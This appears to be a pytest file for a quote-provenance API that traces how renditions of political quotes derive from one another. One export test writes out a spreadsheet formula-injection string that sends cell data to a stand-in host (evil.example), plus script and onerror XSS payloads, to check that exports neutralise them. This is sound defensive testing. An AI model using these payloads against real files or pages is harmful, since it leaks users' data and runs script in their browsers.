"""The API through Litestar's test client, on SQLite and PostgreSQL."""

from __future__ import annotations

import json

import pytest
from sqlmodel import Session, func, select

from provenance.models import AuditEvent, Derivation, Quote, Rendition

CHOE = "choe-2024-11-01-until-the-day-of-victory"
PROBLEM = "application/problem+json"


def counts(engine) -> tuple[int, ...]:
    with Session(engine) as s:
        return tuple(s.exec(select(func.count()).select_from(t)).one() for t in (Quote, Rendition, Derivation, AuditEvent))


def test_health(fx_api) -> None:
    r = fx_api.client.get("/health")
    assert r.status_code == 200 and r.json()["status"] == "ok"


def test_quote_by_slug_and_id(fx_api) -> None:
    r = fx_api.client.get(f"/api/quotes/{CHOE}")
    assert r.status_code == 200
    body = r.json()
    assert len(body["renditions"]) == 5 and len(body["derivations"]) == 4
    assert fx_api.client.get(f"/api/quotes/{body['id']}").json()["slug"] == CHOE
    statuses = {x["key"]: x["status"] for x in body["renditions"]}
    assert statuses["republication-en"] == "attested" and statuses["afp-en"] == "reconstructed"


def test_graph_and_lineage(fx_api) -> None:
    g = fx_api.client.get(f"/api/quotes/{CHOE}/graph").json()
    assert len(g["nodes"]) == 5 and len({n["language"] for n in g["nodes"]}) == 4
    assert {e["relation"] for e in g["edges"]} == {"translation"}
    assert all("drift" in e and "evidence" in e for e in g["edges"])
    lin = fx_api.client.get(f"/api/renditions/{CHOE}:republication-en/lineage").json()
    (path,) = lin["paths"]
    assert [r["key"] for r in path["renditions"]] == ["ko-remark", "ru-interpretation", "afp-en", "lejdd-fr",
                                                      "republication-en"]
    assert [h["child_key"] for h in path["hops"]] == ["ru-interpretation", "afp-en", "lejdd-fr", "republication-en"]


def test_list_paginates_with_opaque_cursor(fx_api) -> None:
    first = fx_api.client.get("/api/quotes", params={"limit": 3}).json()
    assert len(first["items"]) == 3 and first["next_cursor"]
    second = fx_api.client.get("/api/quotes", params={"limit": 3, "cursor": first["next_cursor"]}).json()
    assert len(second["items"]) == 1 and second["next_cursor"] is None
    slugs = [q["slug"] for q in first["items"] + second["items"]]
    assert len(set(slugs)) == 4
    lavrov = fx_api.client.get("/api/quotes", params={"speaker": "lavrov"}).json()["items"]
    assert {q["speaker"] for q in lavrov} == {"Sergei Lavrov"} and len(lavrov) == 2
    found = fx_api.client.get("/api/quotes", params={"q": "principled"}).json()["items"]
    assert [q["slug"] for q in found] == ["lavrov-2024-11-01-principled-stance"]
    bad = fx_api.client.get("/api/quotes", params={"cursor": "garbage"})
    assert bad.status_code == 422 and bad.headers["content-type"].startswith(PROBLEM)
    assert fx_api.client.get("/api/quotes", params={"limit": 36893488147419103233}).status_code in (400, 422)


def test_create_quote_rendition_and_derivation(fx_api) -> None:
    c, h = fx_api.client, fx_api.editor
    r = c.post("/api/quotes", json={"slug": "test-new-quote", "speaker": "Someone", "original_language": "de",
                                    "renditions": [{"key": "de", "language": "de", "status": "attested",
                                                    "text": "Wir werden niemals aufgeben, sagte die Ministerin heute."}]},
               headers=h)
    assert r.status_code == 201, r.text
    r = c.post("/api/quotes/test-new-quote/renditions", headers=h, json={
        "key": "en", "language": "en", "status": "attested", "source": "Wire", "source_kind": "agency",
        "text": "We will never give up, the minister said today.",
        "derived_from": [{"parent": "de", "relation": "translation", "evidence": "translated from German"}]})
    assert r.status_code == 201, r.text
    assert r.json()["parents"][0]["evidence"] == "translated from German"
    # a cycle is 409 and names both renditions
    before = counts(fx_api.db.engine)
    r = c.post("/api/derivations", headers=h, json={"child_id": "test-new-quote:de", "parent_id": "test-new-quote:en"})
    assert r.status_code == 409 and r.headers["content-type"].startswith(PROBLEM)
    body = r.json()
    assert "'de'" in body["detail"] and "'en'" in body["detail"] and body["status"] == 409
    # across quotes is 422
    r = c.post("/api/derivations", headers=h, json={"child_id": "test-new-quote:en", "parent_id": f"{CHOE}:afp-en"})
    assert r.status_code == 422 and "different quotes" in r.json()["detail"]
    assert counts(fx_api.db.engine) == before


@pytest.mark.parametrize("body, status, needle", [
    (b"{not json", 400, "not valid JSON"),
    (json.dumps({"key": "x", "language": "xx", "status": "attested", "text": "t"}).encode(), 422, "language"),
    (json.dumps({"key": "x", "language": "en", "status": "rumoured", "text": "t"}).encode(), 422, "status"),
    (json.dumps({"key": "x", "language": "en", "status": "attested", "text": 5}).encode(), 422, "text"),
    (json.dumps({"key": "x", "language": "en", "status": "attested", "text": "y" * 20_001}).encode(), 422, "text"),
    (json.dumps({"key": "x", "language": "en", "status": "attested", "text": "ok", "derived_from": [{"parent": "zz"}]}).encode(), 422, "zz"),
])
def test_bad_input_is_a_precise_4xx_and_changes_nothing(fx_api, body: bytes, status: int, needle: str) -> None:
    before = counts(fx_api.db.engine)
    r = fx_api.client.post(f"/api/quotes/{CHOE}/renditions", content=body,
                           headers={**fx_api.editor, "Content-Type": "application/json"})
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith(PROBLEM)
    problem = r.json()
    assert {"type", "title", "status", "detail"} <= set(problem)
    assert needle in json.dumps(problem)
    assert counts(fx_api.db.engine) == before


def test_oversize_body_is_413(fx_api) -> None:
    r = fx_api.client.post("/api/import", content=b"x" * (1024 * 1024 + 10),
                           headers={**fx_api.editor, "Content-Type": "application/yaml"})
    assert r.status_code == 413 and r.headers["content-type"].startswith(PROBLEM)


def test_roles(fx_api) -> None:
    c = fx_api.client
    payload = {"child_id": f"{CHOE}:afp-en", "parent_id": f"{CHOE}:ko-remark"}
    assert c.post("/api/derivations", json=payload).status_code == 401
    assert c.post("/api/derivations", json=payload, headers={"Authorization": "Bearer nope"}).status_code == 401
    assert c.post("/api/derivations", json=payload, headers=fx_api.reader).status_code == 403
    assert c.get("/api/audit", headers=fx_api.editor).status_code == 403
    assert c.get("/api/audit", headers=fx_api.admin).status_code == 200


def test_unknown_ids_are_404(fx_api) -> None:
    for path in ("/api/quotes/nope", "/api/quotes/nope/graph", "/api/renditions/nope", "/api/renditions/nope/lineage",
                 f"/api/renditions/{CHOE}:nope"):
        r = fx_api.client.get(path)
        assert r.status_code == 404 and r.headers["content-type"].startswith(PROBLEM), path


def test_import_is_all_or_nothing_and_audited(fx_api) -> None:
    before = counts(fx_api.db.engine)
    bad = "quotes:\n  - {slug: ok-one, speaker: A, original_language: en}\n  - {slug: bad-two, speaker: B, original_language: qq}\n"
    yaml_body = {**fx_api.editor, "Content-Type": "application/yaml"}
    r = fx_api.client.post("/api/import", content=bad.encode(), headers=yaml_body)
    assert r.status_code == 422 and "quote 'bad-two', field 'original_language'" in r.json()["detail"]
    assert counts(fx_api.db.engine) == before
    good = "quotes:\n  - {slug: ok-one, speaker: A, original_language: en}\n"
    r = fx_api.client.post("/api/import", content=good.encode(), headers=fx_api.editor)
    assert r.status_code == 415 and "application/yaml" in r.json()["detail"]  # a body without its type
    r = fx_api.client.post("/api/import", content=good.encode(), headers=yaml_body)
    assert r.status_code == 201 and r.json()["quotes"][0]["slug"] == "ok-one"
    events = fx_api.client.get("/api/audit", params={"limit": 1}, headers=fx_api.admin).json()["items"]
    assert events[0]["action"] == "quote.create" and events[0]["actor"].startswith("key:test editor")
    assert fx_api.client.get("/api/audit/verify", headers=fx_api.admin).json()["ok"] is True


def test_openapi_and_offline_docs(fx_api) -> None:
    spec = fx_api.client.get("/schema/openapi.json").json()
    assert spec["openapi"].startswith("3.1")
    for path in ("/api/quotes", "/api/quotes/{quote_id}/graph", "/api/renditions/{rendition_id}/lineage",
                 "/api/derivations", "/api/import", "/api/audit/verify", "/health"):
        assert path in spec["paths"], path
    page = fx_api.client.get("/schema").text
    assert "/static/swagger/swagger-ui-bundle.js" in page and "cdn." not in page and "unpkg" not in page
    assert fx_api.client.get("/static/swagger/swagger-ui-bundle.js").status_code == 200


def test_prov_json_export_reads_back_with_prov(fx_api) -> None:
    from prov.model import ProvDocument

    r = fx_api.client.get(f"/api/quotes/{CHOE}/export", params={"format": "prov-json"}, headers=fx_api.reader)
    assert r.status_code == 200
    doc = ProvDocument.deserialize(content=r.text, format="json")
    entities = list(doc.get_records(__import__("prov.model", fromlist=["ProvEntity"]).ProvEntity))
    assert len(entities) == 5
    statuses = sorted(str(v) for e in entities for k, v in e.attributes if str(k).endswith("status"))
    assert statuses.count("reconstructed") == 4 and statuses.count("attested") == 1
    derivations = [r for r in doc.get_records() if r.get_type().localpart == "Derivation"]
    assert len(derivations) >= 4
    assert ProvDocument.deserialize(content=r.text, format="json") == doc


@pytest.mark.parametrize("pasted, language, expected_key, expected_slug", [
    ("until the day of victory", None, "republication-en", CHOE),
    ("we will always stand firmly by our Russian comrades until victory day", None, "republication-en", CHOE),
    ("nous serons toujours fermement aux côtés de nos camarades russes", "fr", "lejdd-fr", CHOE),
    ("под мудрым руководством товарища Путина", None, "ru-interpretation", "choe-2024-11-01-no-doubt-great-victory"),
    ("gratitude for North Korea's principled stance", None, "republication-en", "lavrov-2024-11-01-principled-stance"),
])
def test_trace_finds_the_rendition_and_its_lineage(fx_api, pasted, language, expected_key, expected_slug) -> None:
    r = fx_api.client.post("/api/trace", json={"text": pasted, **({"language": language} if language else {})})
    assert r.status_code == 200, r.text
    top = r.json()["matches"][0]
    assert top["rendition"]["key"] == expected_key and top["quote"]["slug"] == expected_slug
    path = top["lineage"]["paths"][0]
    assert path["renditions"][-1]["key"] == expected_key
    assert path["renditions"][0]["key"] in ("ko-remark", "ru-remark")


def test_trace_through_a_gloss_reaches_the_korean_remark(fx_api) -> None:
    r = fx_api.client.post("/api/trace", json={"text": "not the slightest doubt that under the wise leadership"})
    keys = [(m["rendition"]["key"], m["method"]) for m in r.json()["matches"]]
    assert ("ko-remark", "pivot (human gloss)") in keys


def test_trace_rejects_empty_and_unknown_language(fx_api) -> None:
    assert fx_api.client.post("/api/trace", json={"text": ""}).status_code == 422
    r = fx_api.client.post("/api/trace", json={"text": "until the day of victory", "language": "xx"})
    assert r.status_code == 422 and "xx" in r.json()["detail"]


def test_rate_limit_is_429_with_retry_after_and_cors_is_configurable(fx_seeded) -> None:
    from litestar.testing import TestClient

    from api.app import create_app

    settings = fx_seeded.settings.with_values(rate_limit_per_minute=2, cors_origins=("https://desk.example",))
    with TestClient(app=create_app(settings)) as c:
        codes = [c.get("/api/quotes", params={"limit": 1}).status_code for _ in range(3)]
        assert codes == [200, 200, 429]
        r = c.get("/api/quotes")
        assert r.status_code == 429 and int(r.headers["retry-after"]) > 0
        assert r.headers["content-type"].startswith(PROBLEM)
        pre = c.options("/api/quotes", headers={"Origin": "https://desk.example", "Access-Control-Request-Method": "GET"})
        assert pre.headers.get("access-control-allow-origin") == "https://desk.example"
    with TestClient(app=create_app(fx_seeded.settings)) as c:  # closed by default
        r = c.get("/health", headers={"Origin": "https://elsewhere.example"})
        assert "access-control-allow-origin" not in r.headers


def test_reading_can_be_closed(fx_seeded) -> None:
    from litestar.testing import TestClient

    from api.app import create_app

    with TestClient(app=create_app(fx_seeded.settings.with_values(public_read=False))) as c:
        assert c.get(f"/api/quotes/{CHOE}").status_code == 401
        assert c.get("/health").status_code == 200


def test_lineage_and_trace_show_the_glosses_people_wrote(fx_api) -> None:
    """Renditions carry their glosses wherever they are shown, in lineages and traces too."""
    lineage = fx_api.client.get(f"/api/renditions/{CHOE}:republication-en/lineage").json()
    shown = {r["key"]: r["glosses"] for p in lineage["paths"] for r in p["renditions"]}
    assert shown["ko-remark"] and shown["ko-remark"][0]["origin"] == "human"
    assert shown["ru-interpretation"] and all(g["text"] for g in shown["ru-interpretation"])
    traced = fx_api.client.post("/api/trace", json={"text": "until the day of victory"}).json()
    path = traced["matches"][0]["lineage"]["paths"][0]
    assert any(r["glosses"] for r in path["renditions"] if r["language"] != "en")


def test_notes_and_reviews_sent_with_a_new_rendition_are_kept(fx_api) -> None:
    """A rendition posted with ``derived_from`` notes and reviews keeps them (they were answered 201 and dropped)."""
    text = "We repeat that we will stand by our Russian comrades."
    body = {"key": "desk-notes", "language": "en", "status": "attested", "text": text,
            "derived_from": [{"parent": "afp-en", "relation": "quotation",
                              "notes": [{"text": "shortened by the desk", "category": "omission", "severity": "minor",
                                         "author": "Desk", "child_span": {"start": 3, "end": 9, "exact": "repeat"}}],
                              "reviews": [{"fingerprint": "0" * 32, "verdict": "dismissed", "reviewer": "Desk"}]}]}
    r = fx_api.client.post(f"/api/quotes/{CHOE}/renditions", json=body, headers=fx_api.editor)
    assert r.status_code == 201, r.text
    drift = fx_api.client.get(f"/api/renditions/{CHOE}:desk-notes/drift").json()
    notes = [f for f in drift["findings"] if f["origin"] == "human"]
    assert [(n["explanation"], n["child_span"]["exact"]) for n in notes] == [("shortened by the desk", "repeat")]
    exported = fx_api.client.get(f"/api/quotes/{CHOE}/export").json()
    link = next(r for r in exported["quotes"][0]["renditions"] if r["key"] == "desk-notes")["derived_from"][0]
    assert link["reviews"][0]["verdict"] == "dismissed" and link["notes"][0]["author"] == "Desk"


def test_exports_neither_run_formulas_nor_html(fx_api) -> None:
    """A note starting with =HYPERLINK is text in the CSV; HTML in a record is text in the Markdown report."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    r = fx_api.client.post(f"/api/renditions/{CHOE}:lejdd-fr/notes", headers=fx_api.editor,
                           json={"text": formula, "category": "other", "severity": "minor", "author": "@mallory"})
    assert r.status_code == 201, r.text
    csv_body = fx_api.client.get(f"/api/quotes/{CHOE}/export", params={"format": "csv"}).text
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(csv_body)))
    note = next(row for row in rows if "HYPERLINK" in row["explanation"])
    assert note["explanation"] == "'" + formula and note["author"] == "'@mallory"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    r = fx_api.client.post(f"/api/renditions/{CHOE}:lejdd-fr/notes", headers=fx_api.editor,
                           json={"text": "<script>alert(1)</script> & <b>bold</b>", "category": "other",
                                 "severity": "minor", "author": "<img src=x onerror=alert(1)>"})
    assert r.status_code == 201
    report = fx_api.client.get(f"/api/quotes/{CHOE}/export", params={"format": "markdown"}).text
    assert "<script>" not in report and "<img" not in report and "<b>" not in report
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in report


def test_trace_says_not_found_for_a_sentence_no_one_said(fx_api) -> None:
    for text in ("The weather in Paris is lovely today", "Shares of the carmaker fell three percent on Tuesday"):
        r = fx_api.client.post("/api/trace", json={"text": text})
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["verdict"] == "not found" and body["matches"] == []
        assert body["thresholds"]["match"] > body["thresholds"]["possible_match"] > 0


def test_trace_lists_a_quote_once_with_its_other_renditions_and_what_matched(fx_api) -> None:
    body = fx_api.client.post("/api/trace", json={"text": "stand firmly by our Russian comrades"}).json()
    slugs = [m["quote"]["slug"] for m in body["matches"]]
    assert slugs and len(slugs) == len(set(slugs)) and slugs[0] == CHOE
    top = body["matches"][0]
    assert body["verdict"] == top["label"] == "match" and top["score"] >= body["thresholds"]["match"]
    assert top["matched"]["words"] == ["stand", "firmly", "russian", "comrades"] and top["matched"]["missing"] == []
    also = {a["rendition"]["key"] for a in top["also"]}
    assert "afp-en" in also and top["rendition"]["key"] not in also
    assert all(a["score"] <= top["score"] for a in top["also"])


def test_a_recorded_text_pasted_again_is_409_naming_its_rendition_unless_asked(fx_api) -> None:
    c, h = fx_api.client, fx_api.editor
    recorded = c.get(f"/api/renditions/{CHOE}:afp-en").json()
    before = counts(fx_api.db.engine)
    body = {"key": "aggregator-en", "language": "en", "status": "attested", "source": "Some aggregator",
            "text": "  " + recorded["text"].replace(" ", "  ") + " ",  # spacing aside, the same words
            "derived_from": [{"parent": "afp-en", "relation": "republication"}]}
    r = c.post(f"/api/quotes/{CHOE}/renditions", headers=h, json=body)
    assert r.status_code == 409 and r.headers["content-type"].startswith(PROBLEM)
    detail = r.json()["detail"]
    assert "'afp-en'" in detail and recorded["id"] in detail and "allow_same_text" in detail
    assert counts(fx_api.db.engine) == before
    r = c.post(f"/api/quotes/{CHOE}/renditions", headers=h, json={**body, "allow_same_text": True})
    assert r.status_code == 201, r.text
    assert r.json()["text_hash"] == recorded["text_hash"]


def test_sources_notes_and_claims_are_shown_on_the_pages_and_in_the_report(fx_api) -> None:
    c, h = fx_api.client, fx_api.editor
    r = c.post(f"/api/quotes/{CHOE}/renditions", headers=h, json={
        "key": "wire-copy-en", "language": "en", "status": "attested", "source": "Wire Copy Daily",
        "source_kind": "newspaper", "url": "https://wirecopy.example/2024/11/choe", "byline": "By A. Reporter",
        "published_at": "2024-11-02T08:30:00Z", "retrieved_at": "2024-11-03T10:00:00Z",
        "note": "Copied from the AFP dispatch, per the page's credit line.",
        "text": "North Korea will always stand firmly by its Russian comrades until victory, Choe said.",
        "derived_from": [{"parent": "afp-en", "relation": "paraphrase", "evidence": "AFP credit line"}]})
    assert r.status_code == 201, r.text
    page = c.get(f"/quotes/{CHOE}").text
    assert 'href="https://wirecopy.example/2024/11/choe"' in page and "By A. Reporter" in page
    assert "published 2024-11-02 08:30" in page and "retrieved 2024-11-03 10:00" in page
    assert "Copied from the AFP dispatch" in page
    assert "Reconstructed from later reports that quote AFP" in page  # afp-en's note: why it is a stand-in
    assert "<q>selon l&#39;AFP</q>" in page or "<q>selon l'AFP</q>" in page  # who claims afp-en, and how
    hop = c.get(f"/renditions/{CHOE}:wire-copy-en/hop").text
    assert 'id="source-child"' in hop and "wirecopy.example" in hop and "Reconstructed from later reports" in hop
    report = c.get(f"/api/quotes/{CHOE}/export", params={"format": "markdown"}).text
    assert "## Sources" in report and "https://wirecopy.example/2024/11/choe" in report and "By A. Reporter" in report
    assert "Claimed by lejdd-fr" in report


def test_pages_answer_errors_as_html_pages_and_the_api_as_problem_details(fx_api, fx_seeded) -> None:
    from litestar.testing import TestClient

    from api.app import create_app

    html = {"Accept": "text/html,application/xhtml+xml"}
    r = fx_api.client.get("/quotes/no-such-quote", headers=html)
    assert r.status_code == 404 and r.headers["content-type"].startswith("text/html")
    assert "<h1 id=\"error-h\">Not found" in r.text and "no-such-quote" in r.text and 'href="/"' in r.text
    r = fx_api.client.get("/", params={"q": "x" * 20_001}, headers=html)
    assert r.status_code == 422 and r.headers["content-type"].startswith("text/html") and "Correct the field" in r.text
    api = fx_api.client.get("/api/quotes/no-such-quote", headers=html)  # the API stays machine-readable
    assert api.status_code == 404 and api.headers["content-type"].startswith(PROBLEM)
    asked = fx_api.client.get("/quotes/no-such-quote", headers={"Accept": "application/problem+json"})
    assert asked.headers["content-type"].startswith(PROBLEM)
    with TestClient(app=create_app(fx_seeded.settings.with_values(public_read=False))) as c:
        r = c.get(f"/quotes/{CHOE}", headers=html)
        assert r.status_code == 401 and r.headers["content-type"].startswith("text/html")
        assert "ask an administrator" in r.text and r.headers.get("www-authenticate")


def test_an_editor_corrects_where_a_rendition_comes_from_and_unlinks_a_wrong_link(fx_api) -> None:
    c, h = fx_api.client, fx_api.editor
    ref = f"{CHOE}:republication-en"
    before = c.get(f"/api/renditions/{ref}").json()
    r = c.patch(f"/api/renditions/{ref}", headers=h, json={
        "url": "https://republisher.example/choe", "published_at": "2024-11-02T07:00:00+01:00",
        "source": "The Republisher", "source_kind": "newspaper"})
    assert r.status_code == 200, r.text
    after = r.json()
    assert after["url"] == "https://republisher.example/choe" and after["source"]["name"] == "The Republisher"
    assert after["published_at"].startswith("2024-11-02T06:00:00") and after["text_hash"] == before["text_hash"]
    assert after["byline"] == before["byline"]  # what was not sent stays
    assert c.patch(f"/api/renditions/{ref}", json={"url": None}).status_code == 401
    refused = c.patch(f"/api/renditions/{ref}", headers=h, json={"text": "other words"})
    assert refused.status_code == 422 and "text" in refused.json()["detail"]
    cleared = c.patch(f"/api/renditions/{ref}", headers=h, json={"url": None}).json()
    assert cleared["url"] is None
    events = c.get("/api/audit", headers=fx_api.admin, params={"limit": 200}).json()["items"]
    assert [e["action"] for e in events if e["entity_id"] == before["id"]].count("rendition.update") == 2
    # a link made by mistake goes, and the graph and lineage say so at once
    made = c.post("/api/derivations", headers=h, json={"child_id": ref, "parent_id": f"{CHOE}:afp-en",
                                                         "relation": "republication", "link": "inferred"})
    assert made.status_code == 201, made.text
    assert len(c.get(f"/api/quotes/{CHOE}/graph").json()["edges"]) == 5
    gone = c.delete("/api/derivations", headers=h, params={"child_id": ref, "parent_id": f"{CHOE}:afp-en"})
    assert gone.status_code == 204, gone.text
    assert len(c.get(f"/api/quotes/{CHOE}/graph").json()["edges"]) == 4
    paths = c.get(f"/api/renditions/{ref}/lineage").json()["paths"]
    assert all("afp-en" != p["renditions"][-2]["key"] for p in paths)
    again = c.delete("/api/derivations", headers=h, params={"child_id": ref, "parent_id": f"{CHOE}:afp-en"})
    assert again.status_code == 404
    audit_ok = c.get("/api/audit/verify", headers=fx_api.admin).json()
    assert audit_ok["ok"], audit_ok
